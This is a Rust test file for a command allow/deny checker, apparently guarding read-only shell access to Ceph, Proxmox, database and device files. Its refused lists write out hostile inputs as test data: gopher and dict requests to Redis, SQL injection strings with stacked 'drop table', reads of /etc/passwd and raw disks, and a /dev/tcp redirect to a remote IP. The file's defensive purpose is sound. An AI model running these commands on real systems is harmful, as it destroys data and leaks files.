//! Effects beyond the filesystem: cluster status commands that also mute,
//! set or flag; fetch tools given other URL schemes; database functions
//! with side effects inside a SELECT, however quoted; SQL string escaping
//! per dialect; device files other than `/dev/null`.

use super::{accepted, refused};

#[test]
fn cluster_status_that_changes_state() {
    refused(&[
        "ceph osd set noout",
        "ceph osd unset noout",
        "ceph health mute OSD_DOWN",
        "ceph health mute OSD_DOWN 1h",
        "ceph health unmute OSD_DOWN",
        "ceph status --set x",
        "ceph osd pool set p size 2",
        "ceph osd out 1",
        "ceph balancer on",
        "ceph crash archive-all",
        "ceph osd blocklist add x",
        "ceph tell osd.0 bench",
        "ceph pg repair 1.0",
        "ceph osd tree; ceph osd set noout",
        "pvecm expected 1",
        "ha-manager set vm:100 --state stopped",
        "zpool clear tank",
        "zpool scrub tank",
    ]);
    accepted(&[
        "ceph -s",
        "ceph health detail",
        "ceph osd tree",
        "ceph osd df tree",
        "ceph df detail",
        "ceph pg stat",
        "ceph mon dump",
        "pvecm status",
        "ha-manager status",
        "zpool status -x",
    ]);
}

#[test]
fn url_schemes_beyond_http_and_file() {
    refused(&[
        "curl gopher://x:6379/_FLUSHALL",
        "curl 'GOPHER://x:6379/_x'",
        "curl dict://x:6379/FLUSHALL",
        "curl 'DICT://x:11211/stats'",
        "curl telnet://x:25",
        "curl ldap://x",
        "curl smtp://x",
        "curl tftp://x/a",
        "curl scp://x/a",
        "curl sftp://x/a",
        "curl imap://x",
        "curl pop3://x",
        "curl rtsp://x",
        "curl mqtt://x/t",
        "curl ws://x",
        "curl http://x --url gopher://y",
        "curl --url dict://y",
        "wget -qO- gopher://x",
        "http gopher://x",
        "curl http://x -H 'X-HTTP-Method-Override: DELETE'",
        "curl 'http://x/[1-1000000000]'",
    ]);
    accepted(&[
        "curl -s http://localhost:9100/metrics",
        "curl -sk https://pve:8006/api2/json/version",
        "curl -I https://example.com",
        "curl http://[::1]:9090/metrics",
        "curl file:///etc/hostname",
        "wget -qO- http://localhost/health",
    ]);
}

#[test]
fn sql_functions_with_side_effects() {
    refused(&[
        "psql -c \"select pg_terminate_backend(1)\"",
        "psql -c \"SELECT pg_reload_conf()\"",
        "psql -c \"select pg_cancel_backend(1)\"",
        "psql -c \"select lo_import('/etc/passwd')\"",
        "psql -c \"select lo_export(1, '/tmp/x')\"",
        "psql -c \"select set_config('x','y',false)\"",
        "psql -c \"select nextval('s')\"",
        "psql -c \"select setval('s', 1)\"",
        "psql -c \"select pg_switch_wal()\"",
        "psql -c \"select dblink_exec('x','drop table y')\"",
        "psql -c 'select \"pg_terminate_backend\"(1)'",
        "psql -c \"select PG_TERMINATE_BACKEND(1)\"",
        "psql -c \"select pg_catalog.pg_terminate_backend(1)\"",
        "psql -c \"select myfunc()\"",
        "psql -c \"select 1; drop table x\"",
        "psql -c \"with x as (delete from t returning *) select * from x\"",
        "psql -c \"select * from t for update\"",
        "psql -c \"select * into t2 from t\"",
        "psql -c \"explain analyze delete from t\"",
        "psql -c \"copy t to '/tmp/x'\"",
        "psql -c \"select \\$\\$a\\$\\$; drop table x\"",
        "psql -c 'do $$ begin drop table t; end $$'",
        "mysql -e \"select sleep(100000)\"",
        "mysql -e \"select get_lock('x', 1)\"",
        "mysql -e \"select * from t into outfile '/tmp/x'\"",
        "mysql -e \"select 'a\\\\'; drop table x; -- '\"",
        "mysql -e \"select 1; drop table x\"",
        "mysql -e \"select 1 /*! ; drop table x */\"",
        "mysql -e \"select sys_exec('id')\"",
        "sqlite3 db \"select 'a\\\\'; drop table x; --'\"",
        "sqlite3 db \"select writefile('/tmp/x', 'a')\"",
        "sqlite3 db \"select load_extension('x')\"",
        "sqlite3 db \"select edit('x')\"",
        "sqlite3 db \"attach '/tmp/x' as y\"",
        "sqlite3 db \"vacuum into '/tmp/x'\"",
        "sqlite3 db \"pragma journal_mode=wal\"",
        "redis-cli CONFIG SET dir /tmp",
        "redis-cli eval 'return 1' 0",
        "redis-cli getdel x",
        "redis-cli getex x ex 1",
        "redis-cli debug sleep 1",
        "redis-cli client pause 1000",
        "redis-cli memory purge",
        "redis-cli blpop x 0",
    ]);
    accepted(&[
        "psql -c \"select count(*) from pg_stat_activity\"",
        "psql -c \"select E'a\\\\'; drop table x; --'\"",
        "psql -c \"select now(), version()\"",
        "mysql -e \"select 1 # ; drop\"",
        "mysql -e \"show processlist\"",
        "sqlite3 db \"select 'a'';drop table x;--'\"",
        "sqlite3 db \"pragma table_info(t)\"",
        "sqlite3 -readonly db \".tables\"",
        "redis-cli info",
        "redis-cli --scan",
        "redis-cli hgetall x",
    ]);
}

#[test]
fn device_files_other_than_dev_null() {
    refused(&[
        "cat /dev/sda",
        "head -c 512 /dev/sda",
        "cat /dev/watchdog",
        "cat /dev/zero",
        "head -c 10 /dev/urandom",
        "xxd -l 512 /dev/nvme0n1",
        "hexdump -C -n 512 /dev/sda",
        "od -N 10 /dev/mem",
        "cat /dev/kmsg",
        "cat /dev/ttyS0",
        "cat /dev/input/event0",
        "cat /dev/tpm0",
        "cat < /dev/sda",
        "grep x /dev/sda",
        "md5sum /dev/sda",
        "strings /dev/sda",
        "dd if=/dev/sda bs=512 count=1",
        "cat /dev/disk/by-id/x",
        "cat /dev/mapper/x",
        "cat /dev/sd*",
        "cat /dev/s?a",
        "cat /dev/sd[a]",
        "cat /de{v,x}/sda",
        "cat /dev/../dev/sda",
        "cat /dev//sda",
        "cat /./dev/sda",
        "cd /dev && cat sda",
        "echo x > /dev/watchdog",
        "ls > /dev/tcp/1.2.3.4/80",
    ]);
    accepted(&[
        "cat /dev/null",
        "ls /dev/",
        "ls -l /dev/sda",
        "stat /dev/sda",
        "lsblk /dev/sda",
        "blkid /dev/sda",
        "smartctl -a /dev/sda",
        "ls 2>/dev/null",
        "grep x /etc/hosts > /dev/null",
    ]);
}
